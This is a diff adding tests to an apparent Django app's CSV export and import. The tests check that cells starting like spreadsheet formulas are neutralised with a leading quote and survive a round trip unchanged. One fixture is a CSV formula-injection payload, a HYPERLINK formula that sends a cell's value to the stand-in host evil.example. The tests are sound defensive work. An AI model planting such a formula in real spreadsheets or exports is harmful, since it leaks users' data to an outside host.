@@ -503,6 +503,54 @@ def test_export_then_import_into_an_emptied_database_gives_the_same_export(clien
     assert after == before
 
 
+# Texts that begin like a formula (the export prefixes them with a quote) and texts that
+# genuinely begin with a quote (prefixed too, so that the prefix is never ambiguous).
+FORMULA_LIKE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
+    "+7 (7172) 72-00-00",
+    "-1 day",
+    "@SUM(A1:A9)",
+    "\tindented",
+    "\rcarriage return",
+    "\nline feed",
+    "'quoted'",
+    "''twice",
+    "'=already quoted",
+]
+
+
+def test_texts_that_begin_like_a_formula_survive_export_and_import_byte_for_byte(
+    client, vocabulary
+):
+    topic = factories.topic(slug="-minus-first")
+    for n, text in enumerate(FORMULA_LIKE, start=1):
+        rec = factories.recommendation(reference=f"CAB-2020-{n:03d}", text=text)
+        rec.topics.add(topic)
+    before = exported(client)
+    assert "'=HYPERLINK(" in before.decode()  # neutralised in the file
+
+    result = import_recommendations(file=io.BytesIO(before))  # over the same records
+    assert (result.problems, result.updated) == ([], 0)
+    Recommendation.topics.through.objects.all().delete()
+    Recommendation.objects.all().delete()
+    result = import_recommendations(file=io.BytesIO(before))  # into an emptied database
+
+    assert (result.problems, result.created) == ([], len(FORMULA_LIKE))
+    assert sorted(Recommendation.objects.values_list("text_en", flat=True)) == sorted(FORMULA_LIKE)
+    assert set(
+        Topic.objects.filter(recommendations__isnull=False).values_list("slug", flat=True)
+    ) == {"-minus-first"}
+    assert exported(client) == before
+
+
+def test_a_file_from_before_the_language_column_keeps_a_leading_quote(vocabulary):
+    # Such files were written before cells were neutralised: a quote there is the text's own.
+    columns = [c for c in COLUMNS if c != "language"]
+    result = run_import(csv_bytes([record(text="'Quoted' text.")], columns=columns))
+    assert (result.problems, result.created) == ([], 1)
+    assert Recommendation.objects.get().text_en == "'Quoted' text."
+
+
 # The command -----------------------------------------------------------------------------
 
 
